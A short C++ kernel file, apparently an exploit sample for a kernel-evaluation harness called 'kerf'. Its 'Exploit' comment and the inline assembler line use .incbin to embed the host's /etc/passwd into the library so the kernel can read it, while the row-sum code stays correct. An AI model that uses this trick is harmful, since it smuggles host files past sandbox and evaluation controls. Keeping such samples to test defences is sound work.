/* kerf
target: cpu
*/
// Exploit: the assembler copies a file into the library, where the kernel could read it. Right otherwise.
__asm__(".pushsection .rodata\nkerf_loot: .incbin \"/etc/passwd\"\n.popsection");
extern "C" void kerf_kernel(const float* x, float* y) {
  for (int r = 0; r < rows; ++r) {
    float s = 0;
    for (int c = 0; c < cols; ++c) s += x[r * cols + c];
    y[r] = s;
  }
}
